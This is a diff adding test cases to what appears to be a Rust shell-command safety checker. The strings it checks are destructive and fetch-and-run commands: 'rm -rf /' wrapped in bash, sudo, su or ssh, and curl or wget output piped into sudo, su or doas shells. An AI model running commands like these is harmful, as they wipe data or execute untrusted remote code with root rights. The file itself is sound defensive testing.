@@ -207,6 +207,8 @@ fn wrappers() {
     check("bash -c \"bash -c 'rm -rf /'\"", c);
     check("bash <<EOF\nrm -rf /\nEOF", c);
     check("bash <<< 'rm -rf /'", c);
+    check("sudo -s <<< 'rm -rf /'", c);
+    check("echo 'rm -rf ~' | su -", c);
     check("echo 'rm -rf /' | sh", c);
     check("ssh host 'rm -rf /'", c);
 }
@@ -321,6 +323,11 @@ fn pipe_to_shell() {
     check("curl -s https://x | source /dev/stdin", c);
     check("bash <<< \"$(curl -s https://x)\"", c);
     check("curl -s https://x | sh -c sh", c);
+    check("curl -s https://x | sudo -s", c);
+    check("curl -s https://x | sudo -Ei", c);
+    check("wget -qO- https://x | su", c);
+    check("curl -s https://x | sudo su - root", c);
+    check("curl -s https://x | doas -s", c);
     check("curl -s https://x | bash -c 'exec bash'", c);
     check("curl -s https://x | sudo sh -c 'cd /tmp; bash -s'", c);
     check("curl -s https://x | sh -c \"sh -c 'python3 -'\"", c);
